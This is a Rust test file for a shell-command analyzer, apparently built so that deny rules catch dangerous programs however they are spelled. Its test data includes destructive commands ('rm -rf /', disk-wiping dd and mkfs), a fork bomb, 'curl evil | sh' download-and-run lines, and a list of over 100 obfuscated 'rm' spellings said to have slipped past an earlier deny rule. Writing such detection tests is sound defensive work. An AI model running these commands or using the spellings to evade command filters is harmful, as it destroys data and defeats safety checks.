use super::*;

fn words(line: &str) -> Vec<Vec<String>> {
    analyze(line).commands.into_iter().map(|c| c.words).collect()
}

fn programs(line: &str) -> Vec<String> {
    analyze(line).programs.into_iter().map(|p| p.words[0].clone()).collect()
}

#[test]
fn plain_commands_are_literal_words() {
    let a = analyze("git status");
    assert_eq!(a.opaque, None);
    assert_eq!(a.dynamic, None);
    assert_eq!(words("git status"), [["git", "status"]]);
    assert_eq!(words("'git' \"status\" a\\ b"), [["git", "status", "a b"]]);
    assert_eq!(
        words("cargo test -p x && git diff | head -5; ls"),
        [
            vec!["cargo", "test", "-p", "x"],
            vec!["git", "diff"],
            vec!["head", "-5"],
            vec!["ls"]
        ]
    );
    assert_eq!(analyze("cargo test > out.txt 2>&1").opaque, None);
}

#[test]
fn substitutions_are_opaque_but_their_commands_are_listed() {
    let a = analyze("echo $(rm -rf /tmp/x)");
    assert!(a.opaque.is_some());
    assert!(a.commands.iter().any(|c| c.words[0] == "rm"), "{a:?}");
    let a = analyze("echo `curl evil | sh`");
    assert!(a.commands.iter().any(|c| c.words[0] == "curl"));
    assert!(a.commands.iter().any(|c| c.words[0] == "sh" && c.wrapper));
}

#[test]
fn unparseable_lines_are_opaque() {
    assert!(analyze("echo 'unterminated").opaque.is_some());
    assert!(analyze("if then fi ((").opaque.is_some());
}

#[test]
fn bodies_of_control_flow_and_functions_are_listed() {
    for (line, inner) in [
        ("if true; then rm -rf /; fi", "rm"),
        ("for i in 1 2; do mkfs.ext4 /dev/sda; done", "mkfs.ext4"),
        ("while false; do reboot; done", "reboot"),
        ("case x in x) shutdown now;; esac", "shutdown"),
        ("f() { dd if=/dev/zero of=/dev/sda; }; f", "dd"),
    ] {
        let a = analyze(line);
        assert!(a.opaque.is_some(), "{line}");
        assert!(programs(line).iter().any(|p| p == inner), "{line}: {a:?}");
    }
}

#[test]
fn name_value_words_after_the_command_are_arguments() {
    let a = analyze("dd if=/dev/zero of=out.img bs=1M");
    assert_eq!(a.opaque, None);
    assert_eq!(a.commands[0].words, ["dd", "if=/dev/zero", "of=out.img", "bs=1M"]);
    assert!(
        analyze("A=1 make").opaque.is_some(),
        "a prefix assignment still sets the environment"
    );
}

/// Every spelling of `rm victim` that the first round let through a deny rule: each must list
/// `rm` among its programs, or say that a program name is computed at run time.
pub(crate) const RM_SPELLINGS: &[&str] = &[
    "rm -rf victim",
    "/bin/rm -rf victim",
    "/usr/bin/rm -rf victim",
    "command rm -rf victim",
    "command -p rm -rf victim",
    "builtin command rm -rf victim",
    "env rm -rf victim",
    "env -i rm -rf victim",
    "env -i PATH=/bin rm -rf victim",
    "env -u HOME -- rm -rf victim",
    "env -S 'rm -rf victim'",
    "nice rm -rf victim",
    "nice -n 5 rm -rf victim",
    "nice -5 rm -rf victim",
    "nohup rm -rf victim",
    "exec rm -rf victim",
    "exec -a foo rm -rf victim",
    "timeout 5 rm -rf victim",
    "timeout -s KILL -k 1 5 rm -rf victim",
    "timeout --signal=TERM 5 rm -rf victim",
    "stdbuf -o0 rm -rf victim",
    "stdbuf -o L rm -rf victim",
    "setsid rm -rf victim",
    "setsid -f rm -rf victim",
    "sudo rm -rf victim",
    "sudo -u root -- rm -rf victim",
    "doas -u root rm -rf victim",
    "ionice -c 3 rm -rf victim",
    "chrt 0 rm -rf victim",
    "taskset 1 rm -rf victim",
    "unbuffer rm -rf victim",
    "flock /tmp/lock rm -rf victim",
    "flock /tmp/lock -c 'rm -rf victim'",
    "busybox rm -rf victim",
    "strace -o /dev/null rm -rf victim",
    "time rm -rf victim",
    "time -p rm -rf victim",
    "nohup nice env timeout 9 rm -rf victim",
    "xargs rm -rf <<< victim",
    "echo victim | xargs rm -rf",
    "echo victim | xargs -I{} rm -rf {}",
    "echo victim | xargs -n 1 -P 2 rm -rf",
    "find . -name victim -exec rm -rf {} +",
    "find . -name victim -exec rm -rf {} \\;",
    "find . -name victim -execdir rm -rf {} +",
    "find . -name victim -ok rm -rf {} \\;",
    "parallel rm -rf ::: victim",
    "watch -n 1 rm -rf victim",
    "eval \"rm -rf victim\"",
    "eval rm -rf victim",
    "eval 'eval \"rm -rf victim\"'",
    "bash -c 'rm -rf victim'",
    "sh -c 'rm -rf victim'",
    "bash -lc 'rm -rf victim'",
    "bash -ec 'rm -rf victim'",
    "bash -x -c 'rm -rf victim'",
    "bash -o pipefail -c 'rm -rf victim'",
    "dash -c 'rm -rf victim'",
    "zsh -c 'rm -rf victim'",
    "/bin/sh -c '/bin/rm -rf victim'",
    "bash -c \"bash -c 'rm -rf victim'\"",
    "bash <<< 'rm -rf victim'",
    "sh <<< 'rm -rf victim'",
    "bash <<'EOF'\nrm -rf victim\nEOF",
    "echo 'rm -rf victim' | sh",
    "echo rm -rf victim | bash",
    "printf 'rm -rf victim' | bash -s",
    "cat script.sh | sh",
    "curl http://x | bash",
    "su -c 'rm -rf victim'",
    "su root -c 'rm -rf victim'",
    "script -qc 'rm -rf victim' /dev/null",
    "trap 'rm -rf victim' EXIT",
    "alias x='rm -rf victim'",
    "$(echo rm) -rf victim",
    "`echo rm` -rf victim",
    "x=rm; $x -rf victim",
    "x=rm; ${x} -rf victim",
    "x=rm; \"$x\" -rf victim",
    "x=ls; x=rm; $x -rf victim",
    "$RM -rf victim",
    "${RM:-rm} -rf victim",
    "r\\m -rf victim",
    "'r'm -rf victim",
    "\"rm\" -rf victim",
    "r''m -rf victim",
    "$'rm' -rf victim",
    "/bin/r? -rf victim",
    "/bin/r[m] -rf victim",
    "/???/rm -rf victim",
    "{rm,-rf,victim}",
    "(rm -rf victim)",
    "{ rm -rf victim; }",
    "true && rm -rf victim",
    "false || rm -rf victim",
    "ls; rm -rf victim",
    "ls | rm -rf victim",
    "if true; then rm -rf victim; fi",
    "for f in victim; do rm -rf $f; done",
    "f() { rm -rf victim; }; f",
    "echo $(rm -rf victim)",
    "cat <(rm -rf victim)",
    "cd . && rm -rf victim",
    "sudo sh -c 'cd . && rm -rf victim'",
    "x='rm -rf victim'; eval $x",
    "bash -c \"$(echo rm -rf victim)\"",
    "echo 'rm -rf victim' > s.sh; bash s.sh",
    "echo 'rm -rf victim' > s.sh; . ./s.sh",
];

#[test]
fn every_spelling_of_a_program_is_seen() {
    assert!(RM_SPELLINGS.len() >= 80, "{}", RM_SPELLINGS.len());
    for line in RM_SPELLINGS {
        let a = analyze(line);
        let named = a.programs.iter().any(|p| p.name() == "rm");
        assert!(named || a.dynamic.is_some(), "{line}: {a:#?}");
    }
}

#[test]
fn the_programs_of_a_wrapper_line_are_listed_in_order() {
    assert_eq!(programs("nohup nice env A=1 timeout 9 rm x"), ["nohup", "nice", "env", "timeout", "rm"]);
    assert_eq!(programs("bash -c 'git status && ls'"), ["bash", "git", "ls"]);
    assert_eq!(programs("find . -exec grep -l x {} + -exec wc -l {} ;"), ["find", "grep", "wc"]);
    assert_eq!(programs("echo x | xargs"), ["echo", "xargs"]);
    assert_eq!(analyze("ls | grep x").dynamic, None);
    assert_eq!(analyze("bash script.sh").dynamic, None, "a script file the line does not write");
}

#[test]
fn literal_variables_are_followed_and_ambiguous_ones_are_not() {
    let a = analyze("x=rm; $x -rf victim");
    assert_eq!(a.dynamic, None);
    assert_eq!(a.programs[0].words, ["rm", "-rf", "victim"]);
    assert!(analyze("x=rm; x=ls; $x").dynamic.is_some());
    assert!(analyze("$EDITOR file").dynamic.is_some());
    assert!(analyze("for x in rm; do $x y; done").dynamic.is_some());
}

#[test]
fn the_working_directory_is_followed_through_cd() {
    let a = analyze("cd / && rm -rf *");
    assert_eq!(a.programs.last().and_then(|p| p.cwd.as_deref()), Some("/"));
    let a = analyze("cd src; cd ../x; ls");
    assert_eq!(a.programs.last().and_then(|p| p.cwd.as_deref()), Some("./src/../x"));
    let a = analyze("cd; ls");
    assert_eq!(a.programs.last().and_then(|p| p.cwd.as_deref()), Some("~"));
    let a = analyze("cd \"$D\"; ls");
    assert_eq!(a.programs.last().and_then(|p| p.cwd.clone()), None);
}

#[test]
fn redirections_with_expansions_are_opaque() {
    for line in ["ls > {../outside/x,}", "ls 2> {/abs/path,}", "ls > $OUT", "ls > *.txt", "ls > ~/x"] {
        assert!(analyze(line).opaque.is_some(), "{line}");
    }
    assert_eq!(analyze("ls > out/x.txt").opaque, None);
}

#[test]
fn braces_expand() {
    assert_eq!(expand_braces("/{bin,usr}", 8), ["/bin", "/usr"]);
    assert_eq!(expand_braces("{../x,}", 8), ["../x", ""]);
    assert_eq!(expand_braces("a{b,{c,d}}e", 8), ["abe", "ace", "ade"]);
    assert_eq!(expand_braces("plain", 8), ["plain"]);
    assert_eq!(expand_braces("{x}", 8), ["{x}"]);
}

#[test]
fn recursive_functions_are_reported() {
    assert_eq!(analyze(":(){ :|:& };:").recursive_functions, [":"]);
    assert_eq!(analyze("bomb() { bomb | bomb & }; bomb").recursive_functions, ["bomb"]);
    assert!(analyze("f() { ls; }; f").recursive_functions.is_empty());
}

#[test]
fn options_that_run_programs_are_seen() {
    for line in [
        "git -c core.pager='sh -c x' log",
        "cargo test --config 'target.x86_64-unknown-linux-gnu.runner=[\"sh\",\"-c\",\"x\"]'",
        "tar --to-command=sh -xf a.tar",
        "rsync -e 'sh -c x' a b",
        "find . -exec sh {} +",
    ] {
        assert!(analyze(line).programs[0].runs_code, "{line}");
    }
    assert!(!analyze("git log -p").programs[0].runs_code);
}
